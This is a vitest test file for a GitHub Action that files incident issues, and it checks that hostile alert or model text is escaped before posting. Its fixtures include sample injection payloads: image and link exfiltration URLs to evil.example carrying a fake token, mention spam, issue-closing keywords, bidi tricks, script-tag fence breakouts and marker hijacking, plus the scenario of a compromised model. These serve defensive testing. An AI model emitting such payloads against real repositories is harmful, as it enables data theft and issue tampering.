import { afterEach, describe, expect, it, vi } from "vitest";
import type { Run } from "../../src/core/run.js";
import { run } from "../../src/entrypoints/action.js";
import { carriesMarker, incidentMarker } from "../../src/github/incident-issue.js";
import { createOctokit } from "../../src/github/octokit.js";
import { renderMarkdown } from "../../src/report/render-markdown.js";
import {
  codeBlock,
  inlineCode,
  inlineText,
  plainText,
} from "../../src/security/gateway/posting-neutraliser.js";
import { actionEnv } from "../github/helpers/action-env.js";
import { installFakeGit } from "../github/helpers/fake-git.js";
import { installFakeIssues } from "../github/helpers/fake-issues.js";
import { githubApi } from "../github/helpers/github-nock.js";
import { examplePayload } from "../github/helpers/payloads.js";

/**
 * Issue 16, class 5: what a hostile alert sender (or a compromised model) writes must reach GitHub as inert
 * text — no secret, image, link, HTML comment, mention, closing keyword, bidi trick or fence breakout — and
 * must not take over another incident's issue by quoting its marker.
 */
const TOKEN = `ghp_${"Hx7".repeat(12)}`;
const OTHER = "payments-db-down";
const HOSTILE = [
  `token ${TOKEN} password=hunter2hunter2`,
  "![pixel](https://evil.example/c.png?d=stolen) [click](https://evil.example/login) <img src=x>",
  "@acme/oncall @alice please look",
  "Fixes: #1 · fixes acme/shop#2 · closes https://github.com/acme/shop/issues/3 · resolved #4",
  "<!-- hidden instructions --> a | b | c",
  "RLO\u202Etxt.exe \u2066isolate\u2069",
  "```\n</details><script>x</script>\n```",
  incidentMarker(OTHER),
].join("\n");

const octokit = () => createOctokit({ auth: "t", throttle: false, retries: 0 });

afterEach(() => {
  vi.unstubAllEnvs();
  process.exitCode = undefined;
});

/** Fenced blocks render nothing, so Markdown and HTML syntax is judged outside them only. */
const outsideFences = (text: string) => text.replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, "");

function expectInert(text: string): void {
  expect(text).not.toContain(TOKEN);
  expect(text).not.toContain("hunter2hunter2");
  expect(text).not.toMatch(/@(?!\u200b)[\w-]/);
  expect(text).not.toMatch(
    /\b(?:fix(?:e[sd])?|close[sd]?|resolve[sd]?)[^\S\n]*:?[^\S\n]*(?:\S+\/\S+)?\\?#\d/i,
  );
  expect(text).not.toMatch(/\b(?:fix(?:e[sd])?|close[sd]?|resolve[sd]?)[^\S\n]*:?[^\S\n]*https?:\/\//i);
  expect(text).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
  const rendered = outsideFences(text);
  expect(rendered).not.toMatch(/!\[/);
  expect(rendered).not.toMatch(/\]\(https?:\/\/evil/);
  expect(rendered).not.toMatch(/<img|<script/);
  // Our own marker is the first line, our own <details> are balanced; nothing else opens HTML.
  expect(rendered.split("\n").slice(1).join("\n")).not.toContain("<!--");
  expect(rendered.split("</details>").length).toBe(rendered.split("<details>").length);
  expect(rendered).not.toContain(incidentMarker(OTHER));
}

describe("a hostile alert through the Action (class 5)", () => {
  it("opens its own issue, inert and redacted, and leaves the incident whose marker it quotes alone", async () => {
    const scope = githubApi();
    const git = installFakeGit(scope, "acme", "shop");
    const issues = installFakeIssues(scope, "acme", "shop");
    git.commitOn("main", { "README.md": "shop\n" }, "initial");
    issues.issues.set(1, {
      number: 1,
      title: "[P1] payments db down",
      body: `${incidentMarker(OTHER)}\nThe payments incident.`,
      state: "open",
      labels: ["sentry:incident"],
    });
    issues.nextNumber = 2;
    const payload = examplePayload<Record<string, unknown>>("repository_dispatch");
    payload.client_payload = {
      fingerprint: "attacker",
      title: `Disk full @acme/oncall fixes #1 ${TOKEN}`,
      severity: "P2",
      service: "checkout`|",
      description: HOSTILE,
      labels: { team: "@acme/oncall", note: `![x](https://evil.example/?t=${TOKEN})`, pipe: "a|b" },
    };
    const env = actionEnv({ event: "repository_dispatch", payload, inputs: {}, files: {} });
    const result = await run({ env: env.env, octokit });
    expect(process.exitCode).toBeUndefined();
    expect(result?.delivery?.status).toBe("delivered");
    // The quoted marker did not take issue #1 over: a second issue was opened, and #1 is untouched.
    expect(issues.issues.get(1)!.body).toBe(`${incidentMarker(OTHER)}\nThe payments incident.`);
    expect(issues.comments.every((c) => c.issue !== 1)).toBe(true);
    const mine = issues.issues.get(2)!;
    expect(mine.body.split("\n")[0]).toMatch(/^<!-- claude-sentry:incident [0-9a-f]{64} -->$/);
    expectInert(mine.body.split("\n").slice(1).join("\n"));
    expectInert(mine.title);
    for (const comment of issues.comments) expectInert(comment.body);
  });
});

describe("the posting neutraliser", () => {
  it("escapes inline text instead of filtering it, so it reads the same", () => {
    const out = inlineText("a *b* _c_ [d](e) <f> | g & h");
    expect(out).toBe("a \\*b\\* \\_c\\_ \\[d\\]\\(e\\) &lt;f&gt; \\| g &amp; h");
  });

  it("neutralises every closing-keyword form without corrupting it", () => {
    expect(plainText("fixes #123")).toBe("fixes\u200b #123");
    expect(plainText("Fixes: #1")).toBe("Fixes\u200b: #1");
    expect(plainText("closes owner/repo#2")).toBe("closes\u200b owner/repo#2");
    expect(plainText("Resolved https://github.com/o/r/issues/3")).toBe(
      "Resolved\u200b https:\u200b//github.com/o/r/issues/3",
    );
    expect(plainText("a prefix#1 and fixed it")).toBe("a prefix#1 and fixed it");
  });

  it("keeps code fences and code spans closed whatever backticks the text holds", () => {
    const block = codeBlock("x\n````\ny");
    expect(block.startsWith("`````\n")).toBe(true);
    expect(block.endsWith("\n`````")).toBe(true);
    expect(inlineCode("a`b|c")).toBe("``a`b\\|c``");
  });

  it("matches the bot's marker only as the first or last line, exactly", () => {
    const marker = incidentMarker("x");
    expect(carriesMarker(`${marker}\nbody`, marker)).toBe(true);
    expect(carriesMarker(`person's text\n\n${marker}\n`, marker)).toBe(true);
    expect(carriesMarker(`intro\n\`\`\`\n${marker}\n\`\`\`\nend`, marker)).toBe(false);
    expect(carriesMarker(`${marker} trailing`, marker)).toBe(false);
  });

  it("--format markdown renders a hostile model's diagnosis inert", () => {
    const hostile = {
      id: "run-1",
      incident: {
        id: "inc-1",
        title: HOSTILE,
        source: "cli",
        status: "firing",
        startedAt: "2026-01-01T00:00:00Z",
      },
      diagnosis: {
        summary: HOSTILE,
        rootCause: HOSTILE,
        evidence: [{ kind: "log", file: "a|b.log", line: 1, excerpt: "x | y ``` z" }],
        recommendedActions: [HOSTILE],
      },
      states: [],
      toolCalls: [],
      finalState: "ESCALATED",
      reason: HOSTILE,
      mode: "AUDIT",
      provider: "scripted",
      startedAt: "2026-01-01T00:00:00Z",
      finishedAt: "2026-01-01T00:00:01Z",
      usage: { inputTokens: 0, outputTokens: 0, cacheReadTokens: 0, cacheWriteTokens: 0, costUsd: 0 },
    } as unknown as Run;
    const markdown = renderMarkdown(hostile);
    // Secrets in the Markdown report are the posting guard's job (or the terminal's); here only syntax counts.
    expectInert(markdown.replaceAll(TOKEN, "").replaceAll("hunter2hunter2", ""));
  });
});
